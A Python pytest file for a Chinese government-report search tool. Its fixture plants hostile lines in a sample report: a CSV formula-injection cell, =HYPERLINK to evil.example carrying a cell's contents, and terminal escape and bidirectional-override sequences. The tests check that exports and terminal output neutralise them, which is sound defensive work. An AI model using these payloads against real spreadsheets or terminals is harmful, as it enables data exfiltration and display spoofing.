"""Sweep (issue 10 items 14–18): exports, terminal output, serve options, queries, compare."""

from __future__ import annotations

import csv
import io
import json
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from indexer.build import build_index
from indexer.cli import main
from indexer.query import QueryError, open_index
from webui import create_app
from webui.csv_safe import neutralise

ROOT = Path(__file__).parent.parent
FAZHI = str(Path(sys.executable).parent / "fazhi")
HOSTILE = (
    "东丽区司法局2023年法治政府建设年度报告\n"
    "2023年，区司法局深入推进法治政府建设，现将有关情况报告如下。\n"
    "一、主要举措和成效\n"
    '=HYPERLINK("http://evil.example/?x="&A1,"公职律师")\n'
    "+1 公职律师参与法律顾问工作。\n"
    "-2 公职律师参与合法性审查。\n"
    "@SUM(1) 公职律师培训。\n"
    "\x1b[2J\x1b]0;pwned\x07公职律师清屏测试\u202e翻转。\n"
    "二、存在的不足和原因\n"
    "公职律师数量不足。\n"
    # enough ordinary text that a few control characters do not make it look binary
    + "".join(
        f"三、下一年度主要安排\n（{n}）持续推进法治政府建设，健全依法决策机制。\n"
        for n in "一二三四五"
    )
    + "区司法局依法行政工作扎实推进，行政复议和行政应诉工作规范开展，普法宣传持续深入。\n" * 12
)


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    corpus = base / "corpus"
    corpus.mkdir()
    (corpus / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    build_index(corpus, base / "ix")
    return base / "ix"


def test_csv_export_neutralises_formulas_and_json_stays_exact(hostile_index):
    client = create_app({"TESTING": True, "INDEX_DIR": str(hostile_index)}).test_client()
    r = client.get("/export.csv?q=公职律师")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    texts = [row["text"] for row in rows]
    for start in ("=", "+", "-", "@"):
        assert any(t.startswith("'" + start) for t in texts), start
        assert not any(t.startswith(start) for t in texts), start
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
    api = client.get("/api/search?q=公职律师&limit=0").get_json()
    exact = [h["text"] for h in api["hits"]]
    assert any(t.startswith('=HYPERLINK("http://evil.example') for t in exact)
    assert any(t.startswith("+1 公职律师") for t in exact)


def test_terminal_output_shows_control_characters_json_keeps_them(hostile_index, runner):
    result = runner.invoke(main, ["search", "清屏", "--index", str(hostile_index)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\u202e" not in result.output
    assert "␛[2J␛]0;pwned␇公职律师清屏测试" in result.output
    raw = runner.invoke(main, ["search", "清屏", "--json", "--index", str(hostile_index)])
    hit = json.loads(raw.output)["hits"][0]
    assert hit["text"].startswith("\x1b[2J\x1b]0;pwned\x07")
    own = runner.invoke(main, ["compare", "task", "--query", "清屏", "--index", str(hostile_index)])
    assert "\x1b" not in own.output and "␛[2J" in own.output


def test_highlights_stay_aligned_after_showing_controls(hostile_index, runner):
    from indexer.cli.common import mark_spans, shown
    from indexer.model import Span

    text = "\x1b[2J公职律师"
    assert len(shown(text)) == len(text)
    marked = mark_spans(text, [Span(4, 8)], bold=True)
    assert "␛[2J" in marked and "公职律师" in marked


@pytest.mark.parametrize(
    "query",
    ["AND", "OR OR", "NOT", "unit:", "法律 AND", "AND 法律", "公职律师 year:"],
)
def test_empty_boolean_queries_are_refused_with_a_hint(seed_index, client, runner, query):
    with pytest.raises(QueryError, match="例如"):
        seed_index.search(query)
    r = client.get("/", query_string={"q": query})
    assert r.status_code == 400
    assert "例如" in r.get_data(as_text=True)
    r = client.get("/api/search", query_string={"q": query})
    assert r.status_code == 400 and "例如" in r.get_json()["message"]
    out = runner.invoke(main, ["search", query, "--index", str(seed_index.dir)])
    assert out.exit_code != 0 and "例如" in out.output and "Traceback" not in out.output


@pytest.mark.parametrize(
    ("query", "message"), [("()", "括号里没有检索词"), ('""', "引号里没有内容")]
)
def test_empty_groups_and_phrases_are_refused(seed_index, query, message):
    with pytest.raises(QueryError, match=message):
        seed_index.search(query)


@pytest.mark.parametrize("query", ["NOT 法律", "法律 OR (顾问 AND 公职律师)", 'unit:"区司法局"'])
def test_real_boolean_queries_still_run(seed_index, query):
    seed_index.search(query)


def test_same_report_twice_is_said(seed_index, client, runner):
    report = seed_index.reports()[0]
    r = client.get("/compare/years", query_string={"a": report.id, "b": report.id})
    assert r.status_code == 400
    page = r.get_data(as_text=True)
    assert "A 和 B 是同一份报告" in page
    assert "照搬" not in page.split("A 和 B 是同一份报告")[1][:200]
    assert client.get("/compare/years?a=nope&b=nope").status_code == 404
    out = runner.invoke(
        main, ["compare", "reports", report.id, report.id, "--index", str(seed_index.dir)]
    )
    assert out.exit_code != 0 and "same report" in out.output


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def serve(index_dir: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [FAZHI, "serve", "--index", str(index_dir), *args],
        capture_output=True,
        text=True,
        timeout=30,
        cwd=ROOT,
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--port", "99999"], "99999 is not in the range 1<=x<=65535"),
        (["--port", "0"], "0 is not in the range"),
        (["--port", "-1"], "-1 is not in the range"),
        (["--host", "999.1.1.1"], "cannot listen on host '999.1.1.1'"),
    ],
)
def test_serve_refuses_bad_options_in_one_line(built_index, args, message):
    result = serve(built_index, *args)
    assert result.returncode != 0
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert len([line for line in result.stderr.splitlines() if line.startswith("Error")]) == 1


def test_serve_on_a_busy_port_says_so(built_index):
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = serve(built_index, "--port", str(port))
    assert result.returncode != 0
    assert f"port {port} on 127.0.0.1 is already in use" in result.stderr
    assert "Traceback" not in result.stderr


def test_serve_prints_the_address_it_listens_on(built_index):
    port = free_port()
    proc = subprocess.Popen(
        [FAZHI, "serve", "--index", str(built_index), "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    try:
        line = proc.stdout.readline()
        assert f"http://127.0.0.1:{port}/" in line
        deadline = time.monotonic() + 10
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/reports", timeout=5) as r:
                    assert r.status == 200
                    break
            except OSError:
                assert time.monotonic() < deadline
                time.sleep(0.1)
    finally:
        proc.terminate()
        proc.communicate(timeout=10)


def test_search_on_an_open_index_after_reopen(hostile_index):
    with open_index(hostile_index) as idx:
        assert idx.search('"公职律师"').total >= 6
